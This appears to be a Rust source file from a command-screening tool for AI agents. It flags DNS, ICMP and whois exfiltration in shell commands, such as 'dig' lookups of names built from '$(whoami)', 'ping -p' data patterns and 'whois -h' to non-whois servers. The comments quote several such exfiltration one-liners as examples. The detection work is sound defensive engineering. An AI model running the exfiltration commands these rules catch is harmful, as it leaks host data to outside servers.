//! Name lookups (`dig`, `nslookup`, `host`, `ping`, `whois`): data sent in
//! the name asked for or in the packet, to a server that logs it.

use super::*;

impl Walker<'_> {
    pub(super) fn dns(&mut self, site: Site<'_>, name: &str, rest: &[Arg<'_>], vals: &[&str]) {
        let text = &site.cmd.text;
        self.out.effects.egress = true;
        // A server named on the line (`dig @S`, `nslookup NAME S`, `host
        // NAME S`) receives the query itself: no name is exempt then.
        let operands = rest
            .iter()
            .filter(|a| !a.v().starts_with(['-', '+']))
            .count();
        let own_server = operands > 1 || rest.iter().any(|a| a.v().starts_with('@'));
        // The server asked (`dig @S`, `nslookup NAME S`, `host NAME S`):
        // what its words carry reaches the name servers only through the
        // lookup of its own name, if it is one (`nslookup x.test $(minikube
        // ip)` names an address: devdocsh, session 51), so a server built
        // from output is asked about, a name built from it denied.
        let operands: Vec<usize> = rest
            .iter()
            .enumerate()
            .filter(|(i, a)| {
                // `host -t A NAME SERVER`: an option's value is no operand.
                let value = name == "host"
                    && i.checked_sub(1)
                        .and_then(|p| rest.get(p))
                        .is_some_and(|p| matches!(p.v(), "-t" | "-c" | "-N" | "-R" | "-W" | "-m"));
                !(a.v().starts_with(['-', '+', '@']) || value)
            })
            .map(|(i, _)| i)
            .collect();
        // Only a server the output names whole (`$(minikube ip)`, `@$(cmd)`):
        // one with a fixed part beside it (`$(whoami).x.example`) is a name
        // built from the output, looked up to find the server (session
        // 51's review of its own mend).
        let server = |i: usize, a: &Arg<'_>| {
            let raw = a.word.raw.trim_start_matches('@').trim_matches(['"', '\'']);
            let whole = super::util::substitution_body(raw)
                .is_some_and(|b| !b.contains(['(', ')', '`']))
                || sole_variable(raw).is_some();
            whole
                && (a.v().starts_with('@')
                    || matches!(name, "nslookup" | "host") && operands.get(1) == Some(&i))
        };
        let dynamic = |a: &Arg<'_>| {
            !a.v().starts_with('-')
                && (a.word.has_command_substitution
                    || a.word.has_parameter_expansion
                        && (own_server || !self.provider_name(&a.word.raw))
                        && !self.given_host(&a.word.raw)
                        && !self.spelled_name(&a.word.raw))
        };
        if rest
            .iter()
            .enumerate()
            .any(|(i, a)| !server(i, a) && dynamic(a))
        {
            return self.find(Exfil, High, format!("{name} looks up a name built from command output or variables (DNS exfiltration)"), text);
        }
        if rest
            .iter()
            .enumerate()
            .any(|(i, a)| server(i, a) && dynamic(a))
        {
            self.find(
                Exfil,
                Medium,
                format!("{name} asks a DNS server named by command output or variables (its name, if it is one, is looked up too)"),
                text,
            );
        }
        if (name == "ping" || name == "ping6") && vals.contains(&"-p") {
            return self.find(
                Exfil,
                High,
                "ping carries a data pattern (ICMP exfiltration)",
                text,
            );
        }
        if name == "whois" && vals.contains(&"-h") {
            let host = vals
                .iter()
                .skip_while(|v| **v != "-h")
                .nth(1)
                .copied()
                .unwrap_or("");
            // `whois -h` with no server after it names none. A query built
            // at run time or read from input sends this machine's data; one
            // the line spells out (`whois -h HOST -p PORT "domain.tld"`:
            // htnet, session 35) only what the agent wrote, still asked (a
            // non-whois server is how GTFOBins' whois sends a file).
            let carries = site.cmd.argv.iter().skip(1).any(|w| w.is_dynamic())
                || super::urldata::stdin_carries_data(site);
            if !host.is_empty() && !host.contains("whois.") {
                return self.find(
                    Exfil,
                    if carries { High } else { Medium },
                    format!("sends data to the non-whois server {host}"),
                    text,
                );
            }
        }
        if name == "getent" {
            self.out.effects.egress = false;
        }
    }
}

impl Walker<'_> {
    /// Whether a name is one variable the line did not fill, holding no
    /// secret (`traceroute -n $1`, `dig +short $HOST`): a host given to
    /// the command, not data built into a name (l101, session 28). What
    /// the line assigned is judged by its value, as in `provider_name`.
    fn given_host(&self, raw: &str) -> bool {
        // An address's leading numbers before the variable (`10.0.0.$i`,
        // a ping sweep: rttb, session 50) carry nothing: the variable is
        // judged as if it stood alone.
        let raw = match raw.trim_start_matches(|c: char| c.is_ascii_digit() || c == '.') {
            rest if rest.len() < raw.len() && raw.contains('.') && rest.starts_with('$') => rest,
            _ => raw,
        };
        sole_variable(raw).is_some_and(|n| {
            let positional = n.bytes().all(|b| b.is_ascii_digit());
            self.secrets_in(raw).is_empty()
                && if positional {
                    self.positional.is_none() && !self.sourced
                } else {
                    // Filled nowhere in the line (`read h`, `for h in`,
                    // `h=...`): every mention is an expansion of it.
                    self.only_expanded(n) || self.vars.contains_key(n)
                }
        })
    }

    /// Whether every variable of a name holds only values the line spells
    /// out for a loop (`for h in web1 web2; do dig $h.example.com`): the
    /// name is known text, whatever else surrounds the variables.
    fn spelled_name(&self, raw: &str) -> bool {
        let refs = agentgate_commands::var_refs(raw);
        !refs.is_empty()
            && !raw.contains(['`', '(', '!'])
            && refs.iter().all(|n| {
                self.set_only_by_loop(n)
                    && self
                        .alts
                        .get(n.as_str())
                        .is_some_and(|vs| !vs.is_empty() && vs.iter().all(|v| spelled_out(v)))
            })
    }

    /// Whether the only mention of `n` in the line that is not an
    /// expansion of it is its `for n in` (reviewing session 51's mend: `for
    /// i in 1 2; do i=$(whoami); dig $i.x.example; done` sets it again).
    fn set_only_by_loop(&self, n: &str) -> bool {
        let top = self.top.as_str();
        match self.setter_mentions(n).as_slice() {
            [at] => top
                .get(..*at)
                .is_some_and(|b| b.trim_end().ends_with("for")),
            _ => false,
        }
    }

    /// Whether every mention of the name `n` in the whole line is an
    /// expansion of it (`$n`, `${n}`, `${n:-x}`): nothing in the line sets
    /// it (`read n`, `for n in`, `n=`, `declare n`, `mapfile n`).
    pub(super) fn only_expanded(&self, n: &str) -> bool {
        self.setter_mentions(n).is_empty()
    }

    /// Where the line mentions the name `n` as a whole word other than in
    /// an expansion of it (`$n`, `${n}`): each place that may set it.
    fn setter_mentions(&self, n: &str) -> Vec<usize> {
        let top = self.top.as_str();
        let mut out = Vec::new();
        let mut from = 0;
        while let Some(at) = top.get(from..).and_then(|t| t.find(n)).map(|i| i + from) {
            let before = top.get(..at).and_then(|b| b.chars().last());
            let after = top.get(at + n.len()..).and_then(|a| a.chars().next());
            let word_start = !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            let word_end = !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            if word_start && word_end && !matches!(before, Some('$' | '{')) {
                out.push(at);
            }
            from = at + n.len();
        }
        out
    }

    /// Whether a name built from variables is a provider's name
    /// (`$api_id.execute-api.$region.amazonaws.com`): what follows the last
    /// variable is a provider domain, so only the provider's name servers
    /// see the name, and no variable in it holds a secret or output the
    /// line produced (session 27, htc). A variable the line assigned is
    /// judged by its value: a copied secret (`t=$AWS_SECRET_ACCESS_KEY`) or
    /// command output (`t=$(cat f)`) is data sent out (session 28, found
    /// reviewing session 27's rule); known text (`region=us-east-1`) is not.
    fn provider_name(&self, raw: &str) -> bool {
        let word = raw.trim_matches(|c| c == '"' || c == '\'');
        let Some((_, after)) = word.rsplit_once('$') else {
            return false;
        };
        let tail = match after.strip_prefix('{') {
            Some(braced) => braced.split_once('}').map_or("", |(_, t)| t),
            None => after.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_'),
        };
        let domain = tail.strip_prefix('.').unwrap_or("");
        !domain.is_empty()
            && !word.contains(['`', '(', '\'', '"'])
            && agentgate_commands::provider_domain(domain)
            && self.secrets_in(word).is_empty()
            && agentgate_commands::var_refs(word)
                .iter()
                .all(|n| !self.assigned_here.contains(n) || self.vars.contains_key(n))
    }
}

/// The name of a word that is one variable's expansion alone (`$h`,
/// `${h}`), not a name with more after it (`$h.x`, `$(cmd)`).
fn sole_variable(raw: &str) -> Option<&str> {
    sole_expansion(raw)
        .filter(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

/// A value the line spells out for a loop's variable, carrying no data
/// (devdocsg/ppnc, session 51: `for i in {1..254}; do ping 10.0.0.$i`
/// was denied as a name built from data): a plain word (`web1`, `10`), a
/// brace range or list of them (`{1..254}`, `{a,b}`), or the numbers
/// `seq` counts (`$(seq 1 254)`, `$(seq -w 1 9)`). What a command printed
/// (`$(cat f)`, `$(whoami)`) is data.
fn spelled_out(v: &str) -> bool {
    let body = v
        .strip_prefix("$(")
        .and_then(|b| b.strip_suffix(')'))
        .or_else(|| v.strip_prefix('`').and_then(|b| b.strip_suffix('`')));
    if let Some(body) = body {
        let mut words = body.split_whitespace();
        return words.next() == Some("seq")
            && words.all(|a| {
                a == "-w" || !a.is_empty() && a.chars().all(|c| c.is_ascii_digit() || c == '.')
            });
    }
    !v.is_empty()
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '{' | '}' | ','))
}
